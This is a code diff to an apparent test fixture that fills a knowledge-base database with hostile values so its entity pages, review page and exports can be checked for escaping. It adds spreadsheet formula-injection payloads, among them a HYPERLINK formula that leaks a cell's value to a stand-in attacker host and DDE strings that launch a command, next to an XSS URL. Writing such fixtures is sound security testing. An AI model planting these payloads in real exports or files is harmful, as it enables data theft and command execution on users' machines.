@@ -66,6 +66,20 @@ HOSTILE_URLS: tuple[str, ...] = (
     "https://exportcontrol.mofcom.gov.cn/a\"onmouseover=\"alert('xss-url-7')",
 )
 
+# Spreadsheet formulas (CSV injection, OWASP): a cell starting with = + - @ TAB or CR runs when the export
+# is opened in Excel / LibreOffice; `;` splits a cell in locales that use it as the separator.
+FORMULA_PAYLOADS: tuple[str, ...] = (
+    "=HYPERLINK(\"https://attacker.invalid/?leak=\"&A1,\"xss-f1\")",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1 xss-f5",
+    "\r=1+1 xss-f6",
+    "x;=1+1;xss-f7",
+)
+# What poison() writes into the database's cells, in turn.
+CELL_PAYLOADS = PAYLOADS + FORMULA_PAYLOADS
+
 IMPORTABLE_URLS = tuple(u for u in HOSTILE_URLS if u.startswith("https://"))
 
 # Columns left alone: keys, foreign keys, offsets, dates, enumerations the pages compute on.
@@ -100,6 +114,27 @@ def snapshot_records() -> list[dict[str, object]]:
     return records
 
 
+def add_review_rows(db_path: Path) -> int:
+    """One listed entity and one extraction check per document with a span, so the entity pages, the FtM
+    export and the review page (/-/checks) have rows for poison() to fill; returns rows added."""
+    from kb.facts import LIST_NAMES
+
+    conn = sqlite3.connect(db_path)
+    try:
+        spans = list(conn.execute("select document_id, min(id) from spans group by document_id order by document_id"))
+        for n, (doc_id, span_id) in enumerate(spans):
+            conn.execute("insert into listed_entities (document_id, list_name, action, ordinal, name_zh, span_id) "
+                         "values (?, ?, ?, 1, ?, ?)",
+                         (doc_id, LIST_NAMES[n % len(LIST_NAMES)], "remove" if n % 3 == 2 else "add", f"实体{n}",
+                          span_id))
+            conn.execute('insert into extraction_checks (document_id, "check", expected, found, part, span_id) '
+                         "values (?, 'entity_count', '14', '12', null, ?)", (doc_id, span_id))
+        conn.commit()
+    finally:
+        conn.close()
+    return 2 * len(spans)
+
+
 def poison(db_path: Path) -> int:
     """Overwrite every free-text column of every row with a payload (rotating); returns cells changed."""
     conn = sqlite3.connect(db_path)
@@ -117,9 +152,9 @@ def poison(db_path: Path) -> int:
                     continue
                 rowids = [r[0] for r in conn.execute(f'select rowid from "{table}"')]
                 for n, rowid in enumerate(rowids):
-                    value = PAYLOADS[(n + len(column)) % len(PAYLOADS)]
+                    value = CELL_PAYLOADS[(n + len(column)) % len(CELL_PAYLOADS)]
                     if column in ("issuers", "source_urls", "aliases", "hs_codes", "flags", "branches"):
-                        value = json.dumps([value, PAYLOADS[(n + 1) % len(PAYLOADS)]], ensure_ascii=False)
+                        value = json.dumps([value, CELL_PAYLOADS[(n + 1) % len(CELL_PAYLOADS)]], ensure_ascii=False)
                     elif column == "source_url":
                         value = HOSTILE_URLS[n % len(HOSTILE_URLS)]
                     conn.execute(f'update "{table}" set "{column}" = ? where rowid = ?', (value, rowid))
@@ -131,7 +166,7 @@ def poison(db_path: Path) -> int:
 
 
 def build_hostile_kb(data_dir: Path) -> Path:
-    """Samples + hostile records → archive → build → poison; returns the database path."""
+    """Samples + hostile records → archive → build → entity and check rows → poison; returns the database path."""
     from ingest.archive import Archive
     from ingest.snapshot_import import import_snapshot
     from kb.build import build
@@ -146,5 +181,6 @@ def build_hostile_kb(data_dir: Path) -> Path:
                        encoding="utf-8")
     import_snapshot(hostile, archive)
     build(data.archive, data.db)
+    add_review_rows(data.db)
     poison(data.db)
     return data.db
